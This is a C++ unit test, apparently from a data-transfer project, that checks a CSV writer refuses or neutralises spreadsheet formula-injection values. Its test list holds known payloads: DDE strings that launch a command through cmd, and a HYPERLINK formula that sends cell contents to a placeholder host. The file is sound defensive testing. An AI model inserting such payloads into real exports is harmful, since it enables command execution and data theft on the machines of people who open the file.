// CSV the project writes, against formula injection (OWASP's CSV injection
// list): the file sink refuses such a value by default (the core system is
// never handed an altered value) or writes it as text with a leading
// apostrophe (formula-cells=quote); reports always neutralise.
#define BOOST_TEST_MODULE renkei_csv_output
#include <boost/test/unit_test.hpp>

#include "renkei/support/diagnostics.h"
#include "file_transport.h"
#include "renkei/support/layout.h"
#include "renkei/text.h"
#include "test_support.h"

using namespace renkei;

namespace {

const char* const kFormulas[] = {
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x.example/?a=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1+1", "＠SUM(1)"};
const char* const kPlain[] = {"-1", "+81", "-0.5", "山田 太郎", "a=b", "1-2-3", "", "090-0000-1111", "'quoted"};

Batch batchOf(const std::vector<std::string>& values) {
  static auto names = std::make_shared<const FieldNames>(FieldNames{"氏名", "備考"});
  Batch b;
  b.id = "b1";
  for (const auto& v : values) {
    Record r(names);
    r.set(0, "試験 花子");
    r.set(1, v);
    b.records.push_back(std::move(r));
  }
  b.recordCount = b.records.size();
  return b;
}

std::shared_ptr<const formats::Layout> layout(const test::TempDir& dir) {
  test::writeFile(dir / "out.xml", R"(<layout xmlns="urn:renkei:layout:1" id="out" record="r">
  <csv encoding="utf-8" header="true" newline="crlf"/>
  <field name="氏名" pii="personal"/>
  <field name="備考" pii="none"/>
</layout>)");
  Diagnostics diags;
  auto l = formats::loadLayout(dir / "out.xml", diags);
  BOOST_REQUIRE_MESSAGE(l && diags.empty(), diags.format());
  return l;
}

}  // namespace

BOOST_AUTO_TEST_CASE(what_reads_as_a_formula) {
  for (const char* f : kFormulas) BOOST_TEST(looksLikeFormula(f), f);
  for (const char* p : kPlain) BOOST_TEST(!looksLikeFormula(p), p);
  BOOST_TEST(csvCell("=1+1") == "\"'=1+1\"");
  BOOST_TEST(csvCell("市民課") == "市民課");
  BOOST_TEST(csvCell("a,b") == "\"a,b\"");
}

BOOST_AUTO_TEST_CASE(the_file_sink_refuses_a_formula_by_default_naming_record_and_field) {
  test::TempDir dir;
  const auto l = layout(dir);
  int n = 0;
  for (const char* f : kFormulas) {
    std::string out;
    const auto problem = connectors::file::writeCsv(*l, batchOf({"ok", f}), out);
    BOOST_REQUIRE(problem);
    BOOST_TEST(problem->find("record 2, field 備考: the value begins like a formula") != std::string::npos, *problem);
    // the value itself is never in the message
    BOOST_TEST(problem->find(f) == std::string::npos);
    ++n;
  }
  BOOST_TEST_MESSAGE("formulas refused: " << n << " of " << std::size(kFormulas));
  std::string out;
  BOOST_TEST(!connectors::file::writeCsv(*l, batchOf({kPlain, kPlain + std::size(kPlain)}), out));
  BOOST_TEST(out.find("-0.5") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(formula_cells_quote_writes_them_as_text) {
  test::TempDir dir;
  const auto l = layout(dir);
  std::string out;
  BOOST_TEST(!connectors::file::writeCsv(*l, batchOf({"=1+1", "@SUM(1)", "-1"}), out, true));
  BOOST_TEST(out == "氏名,備考\r\n試験 花子,\"'=1+1\"\r\n試験 花子,\"'@SUM(1)\"\r\n試験 花子,-1\r\n");
}
